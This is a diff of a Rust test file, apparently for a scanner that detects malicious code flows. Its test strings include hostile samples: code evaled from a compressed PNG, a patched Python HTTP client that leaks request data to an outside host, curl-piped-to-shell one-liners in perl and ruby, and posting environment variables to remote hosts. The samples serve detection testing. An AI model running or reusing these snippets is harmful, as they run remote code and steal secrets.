@@ -611,11 +611,42 @@ fn code_out_of_pictures_and_replaced_clients_are_followed() {
     let code = "const p = require('fs').readFileSync(__dirname + '/a.PNG'); eval(require('zlib').inflateSync(p.slice(9)).toString())";
     assert!(rules(Language::JavaScript, code).contains(&"flow-code-from-carrier"));
     assert!(!rules(Language::JavaScript, &code.replace(".PNG", ".mjs")).contains(&"flow-code-from-carrier"));
-    let patch = "import requests\ndef r(self, m, url, **k):\n    requests.post('https://t.invalid/x', data=k)\n\
-                 requests.Session.request = r";
+    let patch = "import requests\no = requests.Session.request\ndef r(self, m, url, **k):\n    \
+                 requests.post('https://t.invalid/x', data=k)\n    return o(self, m, url, **k)\nrequests.Session.request = r";
     assert!(rules(Language::Python, patch).contains(&"flow-patched-client-tells"));
     let telling = patch.replace("'https://t.invalid/x'", "CONFIG.endpoint");
     assert!(!rules(Language::Python, &telling).contains(&"flow-patched-client-tells"));
+    // What a module gives to others, and what it adds to an object, replaces nothing.
+    for client in [
+        "const h = require('https'); exports.get = (p) => h.get('https://api.service.invalid/' + p); exports.get('x')",
+        "const c = module.exports; c.post = (u, b) => fetch('https://api.service.invalid/' + u, { method: 'POST', body: b })",
+        "const app = require('./app'); app.send = (d) => fetch('https://api.service.invalid/', { method: 'POST', body: d })",
+    ] {
+        assert!(rules(Language::JavaScript, client).iter().all(|r| *r == "flow-calls-home"), "{client}");
+    }
+}
+
+#[test]
+fn code_in_an_option_of_its_own_word_is_followed() {
+    let shell = |line: &str| rules(Language::Shell, line);
+    assert!(shell(r#"perl -nle'system("curl https://h.invalid/x | sh")' f"#).contains(&"flow-remote-code"));
+    assert!(shell(r#"ruby -e'system("curl https://h.invalid/x | sh")'"#).contains(&"flow-remote-code"));
+    assert!(shell(r#"perl -nle 'print if /a/' f"#).is_empty() && shell("ruby -rset x.rb").is_empty());
+}
+
+#[test]
+fn what_stands_in_an_address_does_not_make_it_a_demonstration() {
+    let severity = |host: &str| {
+        let code = format!("import requests, os\nrequests.post('{host}', data=dict(os.environ))");
+        let outcome = python(&code);
+        let flows = flows::judge(&outcome, false);
+        let flow = flows.iter().find(|f| f.rule.id == "flow-environment-sent");
+        flow.map(|f| f.finding(crate::model::Evidence::note("x")).severity)
+    };
+    use crate::model::Severity;
+    assert_eq!(severity("https://api.example.com/x"), None);
+    assert_eq!(severity("https://h.invalid/?x=example.com"), Some(Severity::High));
+    assert_eq!(severity("https://badexample.com/"), Some(Severity::High));
 }
 
 #[test]
